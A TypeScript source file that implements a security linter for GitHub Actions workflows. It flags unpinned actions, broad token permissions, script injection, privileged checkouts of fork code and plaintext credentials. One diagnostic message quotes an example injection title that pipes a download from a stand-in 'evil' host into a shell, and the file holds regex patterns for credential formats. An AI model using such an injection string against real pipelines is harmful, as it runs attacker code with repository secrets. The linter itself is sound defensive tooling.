// Workflow security lint: what hands an attacker the pipeline, found in the
// YAML itself (positions from the `yaml` parser's source ranges), each
// finding a Diagnostic with its rule id, severity and the fix. The rules
// follow zizmor's and actionlint's, and GitHub's own hardening guide:
//
//   security/unpinned-action      uses: not pinned to a full commit SHA
//   security/missing-permissions  no top-level `permissions:` (GITHUB_TOKEN gets the repository default)
//   security/excessive-permissions  write-all, or write scopes for every job at the top
//   security/script-injection     attacker-controlled context expanded in run: (or github-script's script:)
//   security/dangerous-checkout   pull_request_target / workflow_run checking out the untrusted head
//   security/plaintext-secret     a credential written in the file
//   security/secrets-inherit      secrets: inherit to a reusable workflow outside the repository
//   security/self-hosted-fork     self-hosted runners on events that forks can trigger
import { isMap, isPair, isScalar, isSeq, LineCounter, parseDocument, type Node, type Pair, type YAMLMap } from "yaml";
import type { Diagnostic, Severity } from "../diagnostics/index.js";

export interface SecurityOptions {
  /** Actions Slipway runs itself (`actions/checkout`, …): exempt from pinning. */
  builtins: ReadonlySet<string>;
}

/** The rules, for `--help`, the docs and SARIF. */
export const SECURITY_RULES: Record<string, string> = {
  "security/unpinned-action": "An action not pinned to a full 40-character commit SHA",
  "security/missing-permissions": "No top-level permissions: the GITHUB_TOKEN gets the repository's default",
  "security/excessive-permissions": "write-all, or write scopes granted to every job",
  "security/script-injection": "An attacker-controlled context expanded inside run: or github-script",
  "security/dangerous-checkout": "pull_request_target or workflow_run checking out the untrusted head",
  "security/plaintext-secret": "A credential written in the workflow file",
  "security/secrets-inherit": "secrets: inherit to a reusable workflow outside the repository",
  "security/self-hosted-fork": "A self-hosted runner on events that forks can trigger",
};

/** Contexts an outside contributor controls (GitHub's "untrusted input" list, and the rest of the family). */
const UNTRUSTED = [
  /github\.event\.(issue|pull_request|discussion)\.(title|body)\b/,
  /github\.event\.(comment|review|review_comment)\.body\b/,
  /github\.event\.pages\.[^.]*\.page_name\b/,
  /github\.event\.pages\[[^\]]*\]\.page_name\b/,
  /github\.event\.commits(\.\*|\[[^\]]*\])?\.(message|author\.(email|name))\b/,
  /github\.event\.head_commit\.(message|author\.(email|name)|committer\.(email|name))\b/,
  /github\.event\.pull_request\.head\.(ref|label|repo\.default_branch)\b/,
  /github\.event\.workflow_run\.(head_branch|display_title|head_commit\.(message|author\.(email|name)))\b/,
  /github\.event\.workflow_run\.pull_requests(\.\*|\[[^\]]*\])?\.head\.ref\b/,
  /github\.head_ref\b/,
];

const UNTRUSTED_HEAD = /github\.event\.pull_request\.head\.(sha|ref)|github\.head_ref|github\.event\.workflow_run\.head_(sha|branch)|refs\/pull\//;

const KEY_FORMATS: Array<[RegExp, string]> = [
  [/\bAKIA[0-9A-Z]{16}\b/, "an AWS access key id"],
  [/\b(ghp|gho|ghu|ghs|ghr)_[A-Za-z0-9]{36}\b/, "a GitHub token"],
  [/\bgithub_pat_[A-Za-z0-9_]{60,}\b/, "a GitHub fine-grained token"],
  [/\bglpat-[A-Za-z0-9_-]{20}\b/, "a GitLab token"],
  [/\bxox[abprs]-[A-Za-z0-9-]{10,}\b/, "a Slack token"],
  [/\bhooks\.slack\.com\/services\/T[A-Z0-9]+\/B[A-Z0-9]+\/[A-Za-z0-9]+/, "a Slack webhook URL"],
  [/\b(sk|rk)_live_[A-Za-z0-9]{20,}\b/, "a Stripe live key"],
  [/\bAIza[0-9A-Za-z_-]{35}\b/, "a Google API key"],
  [/-----BEGIN ((RSA|EC|DSA|OPENSSH|PGP) )?PRIVATE KEY( BLOCK)?-----/, "a private key"],
  [/\bnpm_[A-Za-z0-9]{36}\b/, "an npm token"],
  [/\bslw_[A-Za-z0-9_-]{43}\b/, "a Slipway API token"],
];

/** Names of keys whose values are credentials when they are literal. */
const SECRET_KEY = /(pass(word)?|passwd|secret|token|api[_-]?key|private[_-]?key|credential|auth)/i;

export function lintWorkflowSecurity(text: string, file: string, options: SecurityOptions): Diagnostic[] {
  const lines = new LineCounter();
  const doc = parseDocument(text, { lineCounter: lines, keepSourceTokens: false });
  const out: Diagnostic[] = [];
  const root = doc.contents;
  if (!isMap(root)) return out;
  const at = (node: Node | null | undefined, offset = 0): { line: number; column: number } => {
    const pos = node?.range ? lines.linePos(node.range[0] + offset) : { line: 0, col: 0 };
    return { line: pos.line, column: pos.col };
  };
  const add = (code: string, severity: Severity, node: Node | null | undefined, message: string, fix: string, offset = 0) =>
    out.push({ code: `security/${code}`, severity, message, file, ...at(node, offset), fix });

  const events = eventNames(get(root, "on"));
  const forkEvents = events.filter((e) => e === "pull_request" || e === "pull_request_target" || e === "pull_request_review" || e === "pull_request_review_comment");
  const privileged = events.filter((e) => e === "pull_request_target" || e === "workflow_run");

  // Permissions.
  const topPermissions = pair(root, "permissions");
  if (!topPermissions) {
    add("missing-permissions", "warning", pairKey(root.items[0]) ?? root, "no top-level `permissions:`: every job's GITHUB_TOKEN gets the repository's default, often write to everything", "add `permissions: read-all` (or `contents: read`) at the top and grant writes per job", 0);
  } else {
    checkPermissions(topPermissions.value as Node, true);
  }

  const jobs = get(root, "jobs");
  if (isMap(jobs)) {
    for (const jobPair of jobs.items) {
      const job = jobPair.value;
      if (!isMap(job)) continue;
      const jobName = String(isScalar(jobPair.key) ? jobPair.key.value : "?");
      const perms = pair(job, "permissions");
      if (perms) checkPermissions(perms.value as Node, false);

      // Reusable workflow call.
      const uses = get(job, "uses");
      if (isScalar(uses) && typeof uses.value === "string") {
        checkUses(uses);
        const secrets = get(job, "secrets");
        if (isScalar(secrets) && secrets.value === "inherit" && !uses.value.startsWith("./")) {
          add("secrets-inherit", "warning", secrets, `job '${jobName}' passes every secret (secrets: inherit) to ${uses.value}, a workflow outside this repository`, "pass only the secrets it needs: `secrets: { NAME: ${{ secrets.NAME }} }`");
        }
      }

      // Runners on events from forks.
      const runsOn = get(job, "runs-on");
      const labels = isSeq(runsOn) ? runsOn.items.map((i) => (isScalar(i) ? String(i.value) : "")) : isScalar(runsOn) ? [String(runsOn.value)] : isMap(runsOn) ? scalars(get(runsOn, "labels")) : [];
      if (forkEvents.length > 0 && labels.some((l) => l === "self-hosted")) {
        add("self-hosted-fork", "warning", runsOn, `job '${jobName}' runs on a self-hosted runner for ${forkEvents.join(", ")}, which a fork can trigger: its code runs on your machine`, "run fork events on ephemeral hosted runners, or gate them (environment with required reviewers)");
      }

      const steps = get(job, "steps");
      if (!isSeq(steps)) continue;
      for (const step of steps.items) {
        if (!isMap(step)) continue;
        const stepUses = get(step, "uses");
        if (isScalar(stepUses) && typeof stepUses.value === "string") {
          checkUses(stepUses);
          const w = get(step, "with");
          if (privileged.length > 0 && /^actions\/checkout@/.test(stepUses.value) && isMap(w)) {
            const ref = get(w, "ref");
            if (isScalar(ref) && UNTRUSTED_HEAD.test(String(ref.value))) {
              add("dangerous-checkout", "error", ref, `${privileged.join(", ")} runs with the base repository's secrets and a write token, and this checks out the untrusted head (${String(ref.value)}): code from a fork then runs privileged`, "use `pull_request` for untrusted code, or keep the checkout of the head away from secrets and from running it (no build, no scripts)");
            }
          }
          if (/^actions\/github-script@/.test(stepUses.value) && isMap(w)) injection(get(w, "script"), "script:");
        }
        injection(get(step, "run"), "run:");
      }
    }
  }

  // Plaintext secrets anywhere in the file.
  visit(root, (node, key) => {
    if (!isScalar(node) || typeof node.value !== "string") return;
    const value = node.value;
    if (value.includes("${{")) return;
    for (const [re, what] of KEY_FORMATS) {
      if (re.test(value)) {
        add("plaintext-secret", "error", node, `this looks like ${what}, written in the workflow file: anyone who can read the repository can use it`, "revoke it, store it as a secret (slipway secrets set NAME, or the repository's secrets) and use ${{ secrets.NAME }}");
        return;
      }
    }
    if (key && SECRET_KEY.test(key) && value.length >= 16 && !/\s/.test(value) && entropy(value) >= 3.5) {
      add("plaintext-secret", "error", node, `'${key}' has a literal value that looks like a credential (high entropy)`, "store it as a secret and use ${{ secrets.NAME }}");
    }
  });

  return out.sort((a, b) => a.line - b.line || a.column - b.column);

  function checkUses(node: Node & { value: unknown }): void {
    const uses = String(node.value);
    if (uses.startsWith("./") || uses.startsWith("docker://")) return;
    const at = uses.lastIndexOf("@");
    const name = at > 0 ? uses.slice(0, at) : uses;
    const ref = at > 0 ? uses.slice(at + 1) : "";
    const repo = name.split("/").slice(0, 2).join("/");
    if (options.builtins.has(repo) || repo.startsWith("slipway/")) return;
    if (/^[0-9a-f]{40}$/.test(ref)) return;
    add("unpinned-action", "warning", node, `${uses} is not pinned to a commit: whoever controls ${repo} (or steals its tags) changes what runs here, as with tj-actions/changed-files`, `pin the full 40-character commit SHA: ${name}@<sha> # ${ref || "version"}`);
  }

  function checkPermissions(node: Node, top: boolean): void {
    if (isScalar(node)) {
      if (node.value === "write-all") add("excessive-permissions", "warning", node, "`permissions: write-all` gives the GITHUB_TOKEN write access to everything", "grant only what the job needs, e.g. `contents: read`, `pull-requests: write`");
      return;
    }
    if (!top || !isMap(node)) return;
    for (const p of node.items) {
      if (isScalar(p.value) && p.value.value === "write" && isScalar(p.key)) {
        add("excessive-permissions", "warning", p.value, `\`${String(p.key.value)}: write\` at the top grants it to every job`, "set read at the top and grant the write only to the job that needs it");
      }
    }
  }

  function injection(node: Node | null | undefined, where: string): void {
    if (!isScalar(node) || typeof node.value !== "string" || !node.range) return;
    const source = text.slice(node.range[0], node.range[1]);
    for (const m of source.matchAll(/\$\{\{([\s\S]*?)\}\}/g)) {
      const expr = m[1] ?? "";
      const hit = UNTRUSTED.find((re) => re.test(expr));
      if (!hit) continue;
      const context = (hit.exec(expr)?.[0] ?? expr).trim();
      add(
        "script-injection",
        "error",
        node,
        `${context} is controlled by whoever opens the issue, pull request or comment, and is pasted into ${where} as code: a title like \`a"; curl evil | sh; "\` runs`,
        `pass it through the environment instead: \`env: { VALUE: \${{ ${context} }} }\` and use "$VALUE" in the script`,
        m.index ?? 0,
      );
    }
  }
}

function get(map: YAMLMap | Node | null | undefined, key: string): Node | null | undefined {
  if (!isMap(map)) return undefined;
  return pair(map, key)?.value as Node | null | undefined;
}

function pair(map: YAMLMap, key: string): Pair | undefined {
  return map.items.find((p) => isScalar(p.key) && (p.key.value === key || (key === "on" && p.key.value === true)));
}

function pairKey(p: Pair | undefined): Node | undefined {
  return p && isScalar(p.key) ? p.key : undefined;
}

function scalars(node: Node | null | undefined): string[] {
  if (isSeq(node)) return node.items.map((i) => (isScalar(i) ? String(i.value) : ""));
  return isScalar(node) ? [String(node.value)] : [];
}

function eventNames(on: Node | null | undefined): string[] {
  if (isScalar(on)) return [String(on.value)];
  if (isSeq(on)) return scalars(on);
  if (isMap(on)) return on.items.map((p) => (isScalar(p.key) ? String(p.key.value) : ""));
  return [];
}

function visit(node: unknown, fn: (node: Node, key: string | undefined) => void, key?: string): void {
  if (isMap(node)) {
    for (const p of node.items) visit(p.value, fn, isScalar(p.key) ? String(p.key.value) : undefined);
  } else if (isSeq(node)) {
    for (const i of node.items) visit(i, fn, key);
  } else if (isPair(node)) {
    visit(node.value, fn, key);
  } else if (node) {
    fn(node as Node, key);
  }
}

/** Shannon entropy in bits per character. */
function entropy(s: string): number {
  const counts = new Map<string, number>();
  for (const c of s) counts.set(c, (counts.get(c) ?? 0) + 1);
  let h = 0;
  for (const n of counts.values()) {
    const p = n / s.length;
    h -= p * Math.log2(p);
  }
  return h;
}
